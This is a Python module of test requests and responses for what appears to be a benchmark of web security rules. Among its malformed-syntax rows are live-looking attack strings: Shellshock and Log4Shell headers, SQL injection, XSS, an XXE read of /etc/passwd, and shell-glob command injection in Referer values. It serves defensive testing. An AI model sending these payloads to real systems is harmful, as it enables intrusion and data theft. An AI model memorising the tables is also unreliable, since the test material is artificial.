"""Requests and responses that are odd in themselves: protocol, multipart, JSON and XML syntax, and leaking responses.

They are tables, not random: each row is one known way to be wrong, so that a rule about syntax has something to fire on.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import replace

from bench.rules.requests import FORM, Request, multipart, part, post

_JSON = b"application/json"
_BOUNDARY = b"AaB03x"
_MULTIPART = b"multipart/form-data; boundary=" + _BOUNDARY


def protocol() -> Iterator[tuple[str, Request]]:
    plain = Request(b"/a?b=c")
    for method in (
        b"HEAD",
        b"OPTIONS",
        b"PUT",
        b"DELETE",
        b"TRACE",
        b"CONNECT",
        b"PROPFIND",
        b"get",
        b"X",
        b"POST",
        b"PATCH",
    ):
        yield f"method {method!r}", replace(plain, method=method)
    for version in (
        b"HTTP/1.0",
        b"HTTP/0.9",
        b"HTTP/2",
        b"HTTP/2.0",
        b"HTTP/3",
        b"HTTP/1.2",
        b"JUNK/1.0",
        b"HTTP/1.1x",
    ):
        yield f"version {version!r}", replace(plain, protocol=version)
    for name in (b"Host", b"User-Agent", b"Accept", b"Accept-Encoding", b"Connection"):
        yield f"without {name!r}", plain.without(name)
        yield f"empty {name!r}", plain.with_header(name, b"")
    for name, values in _HEADER_VALUES.items():
        for value in values:
            yield f"{name!r} {value!r}", plain.with_header(name, value)
    for target in _TARGETS:
        yield f"target {target[:60]!r}", Request(target)
    for name, value in ((b"Content-Type", FORM), (b"Content-Length", b"0"), (b"Transfer-Encoding", b"chunked")):
        yield f"get with {name!r}", plain.with_header(name, value)
    yield "post without a length", replace(plain, method=b"POST")
    yield "get with a body", replace(plain, body=b"a=1").with_header(b"Content-Type", FORM)
    for name in (b"Host", b"Cookie", b"User-Agent", b"Content-Length", b"Connection"):
        yield f"{name!r} twice", replace(plain, headers=(*plain.headers, (name, b"1"), (name, b"2")))
    for name in (
        b"Proxy",
        b"Lock-Token",
        b"If",
        b"Content-Range",
        b"Translate",
        b"X Y",
        b"x\x00y",
        b"\xe3\x81\x82",
        b"X-A\xff",
    ):
        yield f"header named {name!r}", plain.with_header(name, b"1")
    yield from _rare()
    yield from _many()


def _rare() -> Iterator[tuple[str, Request]]:
    """What some rule about more than one header, or about a rare one, asks for."""
    plain = Request(b"/a?b=c")
    chunked = post(FORM, b"a=1").with_header(b"Transfer-Encoding", b"chunked")
    yield "a length and chunks", chunked.with_header(b"Content-Length", b"3")
    yield (
        "two types",
        replace(plain, headers=(*plain.headers, (b"Content-Type", FORM), (b"Content-Type", b"text/plain"))),
    )
    yield "empty accept, no agent", plain.with_header(b"Accept", b"").without(b"User-Agent")
    yield "type and no length", replace(plain, method=b"POST").with_header(b"Content-Type", FORM)
    for plus in (b"%252B", b"%25252B"):
        yield "utf-7, encoded more than once", Request(b"/?a=%bADw-script%bAD4-alert(1)" % (plus, plus))
    mobile = plain.with_header(b"x-up-devcap-post-charset", b"utf-8").with_header(b"User-Agent", b"UP.Browser/6.1")
    yield "charset of an old telephone", mobile
    for name, value in (
        (b"Accept-Charset", b"utf-8"),
        (b"Sec-Fetch-User", b"?1<>"),
        (b"Sec-CH-UA-Mobile", b"?1\x80"),
        (b"Sec-Fetch-User", b"?1"),
        (b"Cache-Control", b"max-age=0, x"),
        (b"Referer", b"http://x.example/a?b=c'a't /etc/pas?wd *"),
        (b"Referer", b"http://x.example/a;/bin/ca? $IFS /etc/*"),
        (b"If", b"()"),
    ):
        yield f"{name!r} {value!r}", plain.with_header(name, value)
    for size in (999, 1_000, 1_001):
        yield f"a file of {size}", multipart([part(b"f", b"x" * size, b"a.txt", b"text/plain")])
    yield "two files of 800", multipart([part(b"f", b"x" * 800, b"a.txt"), part(b"g", b"y" * 800, b"b.txt")])


_HEADER_VALUES: dict[bytes, tuple[bytes, ...]] = {
    b"Host": (b"192.0.2.1", b"192.0.2.1:8080", b"[2001:db8::1]", b"a b", b"x.example:99999", b"localhost", b"\xe3\x81\x82.jp"),
    b"Content-Length": (b"abc", b"-1", b"1, 1", b"0x10", b"99999999999999999999", b" "),
    b"Transfer-Encoding": (b"chunked", b"chunked, gzip", b"identity", b"xchunked", b"\x0bchunked"),
    b"Connection": (b"keep-alive, close", b"close, close", b"keep-alive, keep-alive", b"upgrade", b"X"),
    b"Range": (
        b"bytes=0-", b"bytes=5-1", b"bytes=" + b"1-2," * 7 + b"3-4", b"bytes=" + b"1-2," * 70 + b"3-4", b"lines=1-2", b"bytes=-",
    ),
    b"Content-Encoding": (b"gzip", b"identity", b"deflate, gzip"),
    b"Accept": (b"*/*", b"text/html;q=x", b"<script>", b"a" * 300),
    b"Accept-Encoding": (b"*", b"gzip;q=1.0, *;q=0", b"x" * 60, b"br"),
    b"Content-Type": (
        b"application/x-www-form-urlencoded; charset=utf-7", b"text/plain; charset=ibm037", b"multipart/form-data", b"x",
        b"application/json; charset=utf-8", b"application/JSON", b"a/b; charset=utf-8; charset=utf-7", b"text/html; foo=bar",
        b"application/xml; charset=\"utf-8\"", b"multipart/related; boundary=x", b"application/vnd.api+json", b"text/xml",
    ),
    b"User-Agent": (
        b"sqlmap/1.0", b"Nikto/2.1", b"curl/8.0", b"python-requests/2.31", b"Mozilla/5.0 () { :;}; id", b"nessus", b"Googlebot/2.1",
        b"Wget/1.21", b"masscan", b"Mozilla/4.0 (compatible; \xe3\x81\x82)", b"x\x00y", b"${jndi:ldap://x.example}",
    ),
    b"Cookie": (
        b"a=1; b", b";;;", b"=x", b"a=1;a=2", b"$Version=1; a=1", b'a="x; y"', b"a=\xe3\x81\x82", b"PHPSESSID=x' or 1=1--", b"a =1",
        b" a=1 ; b= 2 ", b"a=%3Cscript%3E", b"a", b"a=b=c=d",
    ),
    b"Referer": (
        b"http://evil.example/?PHPSESSID=1", b"https://www.city.example.jp/", b"javascript:alert(1)", b"http://x.example/etc/passwd",
    ),
    b"X-Forwarded-For": (b"127.0.0.1", b"1.2.3.4, 5.6.7.8", b"' or 1=1", b"\xe3\x81\x82"),
    b"X-HTTP-Method-Override": (b"PUT", b"TRACE"),
    b"X-Rewrite-URL": (b"/admin",),
    b"Authorization": (b"Basic YWRtaW46YWRtaW4=", b"Bearer x.y.z", b"Basic ' or 1=1"),
    b"Expect": (b"100-continue", b"x"),
}  # fmt: skip

_TARGETS: tuple[bytes, ...] = (
    b"*", b"//", b"/a//b", b"http://www.city.example.jp/a?b=c", b"www.city.example.jp:443", b"/a%", b"/a?b=%", b"/a?b=%zz",
    b"/a?b=%u", b"/a?b=%u0041", b"/a?b=%00", b"/a?b=\x01", b"/a?b=%01", b"/a?b=%80", b"/a?b=%ff%fe", b"/%2e%2e/%2e%2e/", b"/a;b=c",
    b"/a?b", b"/a?", b"/?=", b"/?&", b"/?a=1&&b=2", b"/?a=1;b=2", b"/?a[]=1&a[]=2", b"/?a[b]=1", b"/a#b", b"/a?b#c", b"/a b",
    b"/?x=%E3%81", b"/?x=%C0%AE", b"/?x=%ED%A0%80", b"/?x=%F4%90%80%80", b"/?%E6%B0%8F%E5%90%8D=1", b"/a.bak", b"/a.sql",
    b"/a.asa?b", b"/.git/config", b"/web.config", b"/backup.old", b"/a.axd", b"/a.dll", b"/index.php.", b"/a.PhP", b"/a.tar.gz",
    b"/.htaccess", b"/wp-admin/admin-ajax.php", b"/?a=" + b"b" * 500, b"/?" + b"a" * 120 + b"=1", b"/?a=" + b"%E3%81%82" * 300,
    b"/?" + b"&".join(b"a%d=%d" % (number, number) for number in range(300)), b"/" + b"a/" * 300, b"/?a=%2526", b"/?a=%25%32%36",
    b"/?a=//b", b"/?a=http%3A%2F%2F192.0.2.1%2F", b"/?url=https%3A%2F%2Fx.example%3F", b"/?a=b%0d%0ac", b"/?a=%09%20%0b",
    b"/shinsei?%E6%97%A5%E6%9C%AC=%E8%AA%9E", b"/\xe7\x94\xb3\xe8\xab\x8b?a=\xe6\x97\xa5", b"/?a=+++&b=++", b"/?a=%u3042%uff1c",
    b"/?jsessionid=1", b"/a;jsessionid=1?b=1", b"/?PHPSESSID=1", b"/~root/", b"/cgi-bin/a.sh?id", b"/?-s", b"/?-d+x%3dy", b"/%5c%5c",
)  # fmt: skip


def _many() -> Iterator[tuple[str, Request]]:
    for count in (254, 255, 256, 999, 1000, 1001):
        yield f"{count} fields", post(FORM, b"&".join(b"a%d=x" % number for number in range(count)))
    for length in (99, 100, 101, 399, 400, 401, 64_000, 64_001):
        yield f"name of {length}", post(FORM, b"a" * length + b"=1")
        yield f"value of {length}", post(FORM, b"a=" + b"b" * length)


def form_syntax() -> Iterator[tuple[str, Request]]:
    bodies = (
        b"", b"=", b"&", b"a", b"a=", b"=a", b"a=1&", b"&a=1", b"a=1&&b=2", b"a=1;b=2", b"a==b", b"a=b=c", b"a=%", b"a=%z", b"a=%4",
        b"a=%41%", b"a=%u0041", b"a=+", b"a+b=c", b"%61=1", b"a%00b=1", b"a=%00", b"a=\x00", b"a=\xe3\x81\x82", b"a=%E3%81%82",
        b"a=%e3%81", b"a=\xff\xfe", b"a=1\r\n", b"a=1\r\nb=2", b"a=<x>", b"a=&#x3c;script&#x3e;", b"a=%26lt%3Bscript%26gt%3B", b"{}",
        b"<a>x</a>", b"a=%uff1cscript%uff1e", b"a=%EF%BC%9Cscript%EF%BC%9E", b"a[b][c]=1", b"a=1&a=1&a=2", b"a=%2525", b"a=%C0%BCscript",
    )  # fmt: skip
    for body in bodies:
        yield f"form {body!r}", post(FORM, body)


def multipart_syntax() -> Iterator[tuple[str, Request]]:
    good = b'--AaB03x\r\nContent-Disposition: form-data; name="a"\r\n\r\n1\r\n--AaB03x--\r\n'
    for label, content_type in _MULTIPART_TYPES.items():
        yield f"multipart type: {label}", post(content_type, good)
    bodies = {
        "good": good,
        "no final boundary": good.replace(b"--AaB03x--\r\n", b""),
        "final without line end": good.removesuffix(b"\r\n"),
        "lines end with LF": good.replace(b"\r\n", b"\n"),
        "mixed line ends": good.replace(b"\r\n1\r\n", b"\n1\r\n"),
        "data before": b"junk\r\n" + good,
        "data after": good + b"junk",
        "line ends after": good + b"\r\n\r\n",
        "empty": b"",
        "only the final boundary": b"--AaB03x--\r\n",
        "boundary with a space": good.replace(b"--AaB03x\r\n", b"--AaB03x \r\n"),
        "another boundary inside": good.replace(b"\r\n1\r\n", b"\r\n--other\r\n1\r\n"),
        "dashes inside": good.replace(b"\r\n1\r\n", b"\r\n--\r\n---a\r\n"),
        "boundary as a prefix": good.replace(b"\r\n1\r\n", b"\r\n--AaB03xy\r\n"),
        "no end of the head": b'--AaB03x\r\nContent-Disposition: form-data; name="a"\r\n1\r\n--AaB03x--\r\n',
        "nul in the value": good.replace(b"1", b"1\x002"),
        "binary": good.replace(b"\r\n1\r\n", b"\r\n" + bytes(range(256)) + b"\r\n"),
    }
    for label, body in bodies.items():
        yield f"multipart body: {label}", post(_MULTIPART, body)
    for head in _PART_HEADS:
        yield f"multipart head: {head!r}", multipart([head + b"\r\n\r\nvalue"], boundary=_BOUNDARY)
    yield (
        "two files",
        multipart([part(b"f", b"1", b"a.php", b"text/x-php"), part(b"f", b"2", b"b;c.txt"), part(b"f", b"", b"")]),
    )
    yield "part of a charset", multipart([part(b"_charset_", b"utf-7"), part(b"a", b"+ADw-script+AD4-")])


_MULTIPART_TYPES: dict[str, bytes] = {
    "no boundary": b"multipart/form-data",
    "empty boundary": b"multipart/form-data; boundary=",
    "quoted": b'multipart/form-data; boundary="AaB03x"',
    "quoted, not closed": b'multipart/form-data; boundary="AaB03x',
    "single quotes": b"multipart/form-data; boundary='AaB03x'",
    "white space": b"multipart/form-data; boundary = AaB03x",
    "comma": b"multipart/form-data, boundary=AaB03x",
    "no space": b"multipart/form-data;boundary=AaB03x",
    "twice": b"multipart/form-data; boundary=AaB03x; boundary=x",
    "upper case": b"Multipart/Form-Data; BOUNDARY=AaB03x",
    "charset": b"multipart/form-data; charset=utf-8; boundary=AaB03x",
    "wrong boundary": b"multipart/form-data; boundary=other",
    "long": b"multipart/form-data; boundary=" + b"A" * 80,
    "odd characters": b"multipart/form-data; boundary=AaB(03)x",
    "mixed": b"multipart/mixed; boundary=AaB03x",
    "trailing": b"multipart/form-data; boundary=AaB03x ; x=y",
}

_PART_HEADS: tuple[bytes, ...] = (
    b'Content-Disposition: form-data; name="a"',
    b"Content-Disposition: form-data; name=a",
    b"Content-Disposition: form-data; name='a'",
    b'Content-Disposition: form-data; name="a',
    b'Content-Disposition: form-data; name="a\\"b"',
    b'Content-Disposition: form-data; name="a"; name="b"',
    b'Content-Disposition: form-data; filename="x.txt"',
    b'Content-Disposition: form-data; name="a"; filename=x.txt',
    b'Content-Disposition: form-data; name="a"; filename="x"y.txt"',
    b"Content-Disposition: form-data; name=\"a\"; filename*=UTF-8''%E7%94%B3.php",
    b'Content-Disposition: form-data; name="a"; filename="x.txt"; filename="y.php"',
    b'Content-Disposition: form-data; name="a"; filename="\xe7\x94\xb3\xe8\xab\x8b\xe6\x9b\xb8.pdf"',
    b'Content-Disposition: form-data; name="a"; filename="x;y.txt"',
    b'Content-Disposition: form-data; name="a"; filename="x\\y.txt"',
    b'Content-Disposition: form-data;\r\n name="a"',
    b'Content-Disposition: form-data;\r\n\tname="a"',
    b'Content-Disposition: form-data; name = "a"',
    b'Content-Disposition: form-data name="a"',
    b'Content-Disposition: form-data; name="a";',
    b'Content-Disposition: form-data; name=""',
    b'Content-Disposition: attachment; name="a"',
    b'content-disposition: FORM-DATA; NAME="a"',
    b'Content-Disposition : form-data; name="a"',
    b'Content-Disposition: form-data; name="a"\r\nContent-Disposition: form-data; name="b"',
    b'Content-Disposition: form-data; name="a"\r\nContent-Type: text/html; charset=utf-7',
    b'Content-Disposition: form-data; name="a"\r\nContent-Transfer-Encoding: base64',
    b'Content-Disposition: form-data; name="a"\r\nX-Other: y',
    b'Content-Disposition: form-data; name="a"\r\nnonsense',
    b'Content-Disposition: form-data; name="a"\r\n: x',
    b"Content-Type: text/plain",
    b'Content-Disposition: form-data; name="a\x00b"',
    b'Content-Disposition: form-data; name="\xe6\xb0\x8f\xe5\x90\x8d"',
    b'Content-Disposition: form-data; name="a&b=<script>"',
    b'Content-Disposition: form-data; name="a"; foo="bar"',
)


def json_syntax() -> Iterator[tuple[str, Request]]:
    bodies = (
        b"", b"{}", b"[]", b"null", b"1", b'"x"', b"true", b"{", b"}", b'{"a":1,}', b'{"a":1 "b":2}', b'{"a":1}{"b":2}', b'{"a":1} x',
        b"{'a':1}", b'{"a":NaN}', b'{"a":01}', b'{"a":1e400}', b'{"a":-0.0}', b'{"a":1.50}', b'{"a":12345678901234567890}', b"// x\n{}",
        b'{"a":"\\u0000"}', b'{"a":"\\ud800"}', b'{"a":"\\ud83d\\ude00"}', b'{"a":"\\x41"}', b'{"a":"\n"}', b'{"a":"\xff"}',
        b'{"a":"\xe3\x81\x82"}', b"\xef\xbb\xbf{}", b'{"a":1,"a":2}', b'{"":1}', b'{"a":{"":{"b":""}}}', b'{"a":[[[["x"]]]]}',
        b'{"a":[1,"x",null,true,[],{}]}', b'[{"a":1},{"a":2}]', b'{"a.b":"c","a":{"b":"c"}}', b'{"a":"\\u003cscript\\u003e"}', b"a=1",
        b"[" * 600 + b"]" * 600, b"[" * 100 + b'"x"' + b"]" * 100, b'{"a":' * 200 + b"1" + b"}" * 200,
        b'{"a":"' + b"x" * 70_000 + b'"}', b" \r\n\t{}", b'{"a":"\\/\\b\\f\\n\\r\\t\\""}', b'{"a":[' + b"1," * 400 + b"1]}",
    )  # fmt: skip
    for body in bodies:
        yield f"json {body[:50]!r} of {len(body)}", post(_JSON, body)


def xml_syntax() -> Iterator[tuple[str, Request]]:
    bodies = (
        b"", b"<a/>", b"<a>", b"<a></b>", b"x", b"<a>x</a><b/>", b"<a b=c/>", b"<a b='1' b='2'/>", b"<a>&amp;&lt;</a>", b"<a>&x;</a>",
        b"<!DOCTYPE a [<!ENTITY x 'y'>]><a>&x;</a>", b"<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>",
        b"<!DOCTYPE a SYSTEM 'http://x.example/a.dtd'><a/>", b"<a><![CDATA[<script>alert(1)</script>]]></a>", b"<?php phpinfo() ?><a/>",
        b"<?xml version='1.0' encoding='Shift_JIS'?><a>\x93\xfa</a>", b"<?xml version='1.0' encoding='UTF-16'?><a/>",
        b"<?xml version='1.0'?><a>\xe6\x97\xa5</a>", b"<a>\xff</a>", b"<a>\x00</a>", b"<a>&#0;</a>", b"<a>&#60;script&#62;</a>",
        b"\xef\xbb\xbf<a/>",
        b"<a xmlns='urn:x'><b xmlns:y='urn:z' y:c='d'>e</b></a>", b"<a>" * 300 + b"</a>" * 300, b" <a/>", b"<a/> ", b"<a/><!-- x -->",
        b"<a b='javascript:alert(1)'>..%2f../../etc/passwd</a>", b"<a><b>1' or</b><c>'1'='1</c></a>", b"<html><script>x</script></html>",
    )  # fmt: skip
    for body in bodies:
        for content_type in (b"text/xml", b"application/xml; charset=utf-8"):
            yield f"xml {body[:50]!r} as {content_type!r}", post(content_type, body)


def responses() -> Iterator[tuple[str, Request, bytes]]:
    for status in (200, 404, 500, 503):
        for content_type in ("text/html; charset=utf-8", "text/plain", "application/json", "text/xml"):
            for body in _LEAKS:
                head = f"HTTP/1.1 {status} X\r\nContent-Type: {content_type}\r\nContent-Length: {len(body)}\r\n\r\n"
                yield f"{status} {content_type} {body[:40]!r}", Request(b"/a"), head.encode() + body


_LEAKS: tuple[bytes, ...] = (
    "<html><body>申請を受け付けました。</body></html>".encode(),
    b"You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version",
    b"Warning: mysql_fetch_array() expects parameter 1 to be resource in /var/www/a.php on line 3",
    b"ORA-01756: quoted string not properly terminated",
    b"Microsoft OLE DB Provider for ODBC Drivers error '80040e14' Unclosed quotation mark after the character string 'x'",
    b"PostgreSQL query failed: ERROR: parser: parse error at or near",
    b"org.postgresql.util.PSQLException: ERROR: unterminated quoted string; SQLite/JDBCDriver sqlite3.OperationalError:",
    b"java.lang.NullPointerException at org.apache.catalina.core.ApplicationFilterChain.doFilter(ApplicationFilterChain.java)",
    b"Caused by: java.sql.SQLException; javax.servlet.ServletException",
    b"<b>Fatal error</b>:  Uncaught Error: Call to undefined function foo() in <b>/a.php</b> on line <b>1</b>",
    b"<?php echo $_GET['a']; ?>",
    b"<?= system('id') ?> <?xml version='1.0'?>",
    b"<title>Index of /backup</title><h1>Index of /backup</h1>",
    b"<h1>Directory Listing For / - Up To</h1>",
    b"Microsoft VBScript runtime error '800a000d' Type mismatch <font face=Arial size=2>ADODB.Field error",
    b"<h2>Server Error in '/' Application.</h2> Version Information: Microsoft .NET Framework Version:4.0",
    b"c:\\inetpub\\wwwroot\\index.asp [error]",
    b"root:x:0:0:root:/root:/bin/bash",
    b"#!/bin/sh\necho x",
    b"uid=0(root) gid=0(root)",
)
